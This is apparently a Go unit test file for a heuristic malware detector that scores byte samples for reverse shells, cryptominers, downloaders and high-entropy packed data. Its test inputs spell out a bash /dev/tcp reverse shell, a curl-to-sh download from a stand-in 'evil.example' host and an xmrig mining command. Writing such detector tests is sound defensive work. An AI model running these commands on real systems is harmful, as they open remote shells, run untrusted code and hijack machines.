package sandbox

import (
	"crypto/sha256"
	"math"
	"testing"
)

func pseudoRandom(n int) []byte {
	out := make([]byte, 0, n)
	block := sha256.Sum256([]byte("seed"))
	for len(out) < n {
		out = append(out, block[:]...)
		block = sha256.Sum256(block[:])
	}
	return out[:n]
}

func hasFeature(p Prediction, f string) bool {
	for _, x := range p.Features {
		if x == f {
			return true
		}
	}
	return false
}

func TestEntropy(t *testing.T) {
	if got := Entropy(nil); got != 0 {
		t.Errorf("Entropy(nil) = %v", got)
	}
	if got := Entropy([]byte("aaaaaaaa")); got != 0 {
		t.Errorf("Entropy(constant) = %v", got)
	}
	all := make([]byte, 256)
	for i := range all {
		all[i] = byte(i)
	}
	if got := Entropy(all); math.Abs(got-8) > 1e-9 {
		t.Errorf("Entropy(uniform) = %v, want 8", got)
	}
}

func TestHeuristicModel_Predict(t *testing.T) {
	m := NewHeuristicModel()

	if p := m.Predict([]byte("#!/bin/sh\necho hello world\n")); p.Score != 0 || len(p.Features) != 0 {
		t.Errorf("benign script = %+v, want zero score", p)
	}

	p := m.Predict([]byte("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
	if !hasFeature(p, "reverse_shell") || p.Score != 0.5 {
		t.Errorf("reverse shell = %+v", p)
	}

	p = m.Predict([]byte("./xmrig -o stratum+tcp://pool.example.com:3333"))
	if !hasFeature(p, "cryptominer") {
		t.Errorf("miner features = %v", p.Features)
	}

	p = m.Predict([]byte("curl -s http://evil.example/x | sh"))
	if !hasFeature(p, "downloader") {
		t.Errorf("downloader features = %v", p.Features)
	}

	p = m.Predict(pseudoRandom(64 << 10))
	if !hasFeature(p, "high_entropy") || p.Score < 0.3 {
		t.Errorf("packed payload = %+v", p)
	}

	if p := m.Predict(pseudoRandom(100)); hasFeature(p, "high_entropy") {
		t.Error("entropy must not be judged on tiny inputs")
	}
}

func TestHeuristicModel_ScoreCapped(t *testing.T) {
	data := []byte("bash -i >& /dev/tcp/1.2.3.4/1 xmrig curl x | sh /etc/crontab /bin/bash -i ")
	data = append(data, pseudoRandom(64<<10)...)
	p := NewHeuristicModel().Predict(data)
	if p.Score != 1 {
		t.Errorf("Score = %v, want capped at 1", p.Score)
	}
	if len(p.Features) < 5 {
		t.Errorf("Features = %v, want all patterns", p.Features)
	}
}
